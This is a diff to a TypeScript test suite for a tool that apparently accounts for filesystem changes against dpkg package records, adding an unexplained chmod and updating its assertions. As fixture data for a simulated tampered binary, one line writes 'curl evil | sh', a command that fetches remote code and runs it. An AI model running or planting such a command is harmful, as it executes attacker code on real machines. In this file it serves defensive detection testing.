@@ -78,12 +78,15 @@ describe('merged-/usr, md5sums and maintainer scripts', { skip: !haveDpkg() && '
     sb.writePlugin('conffile', `[conffile]\nenable_plugin = true\nexclude =\n  ${root}/usr/**\n`);
     sb.writePlugin('packages', `[packages]\nenable_plugin = true\nadmindir = ${db.admindir}\nroot = ${root}\ndpkg_log = ${db.log}\n`);
     db.install(hello);
+    fs.mkdirSync(path.join(root, 'etc/mine'));
     const first = sb.run('collect');
     assert.equal(first.code, 0, first.stderr);
 
     // 1: reinstall hello (apt-get install --reinstall), install altpkg (postinst work).
     db.install(hello);
     db.install(alt);
+    // Someone else's change in the same second, to a directory nothing in it explains.
+    fs.chmodSync(path.join(root, 'etc/mine'), 0o700);
     runReport();
     // 2: an edit by hand to a package file, and a new file no package owns.
     fs.writeFileSync(path.join(root, 'usr/bin/hello'), '#!/bin/sh\necho hello; curl evil | sh\n');
@@ -128,7 +131,9 @@ describe('merged-/usr, md5sums and maintainer scripts', { skip: !haveDpkg() && '
     assert.equal(change(r, '/usr/bin/altcmd')?.owner_package, null);
     assert.equal(change(r, '/etc/alternatives/altcmd')?.explained_by, label);
     assert.equal(change(r, '/etc/altpkg/generated.conf')?.explained_by, label);
-    assert.deepEqual(unexplained(r), [], 'every file change of the run is explained');
+    assert.equal(change(r, '/etc/alternatives')?.explained_by, label, 'the directory of the new link');
+    assert.equal(change(r, '/etc/altpkg')?.explained_by, label, 'the directory the postinst made');
+    assert.deepEqual(unexplained(r), [`changed file://${root}/etc/mine`], 'every change of the run but the chmod is explained');
     assert.ok(!r.changes.some((c: any) => c.key.startsWith('package-alias://') || c.key.startsWith('package-modified://')));
   });
 
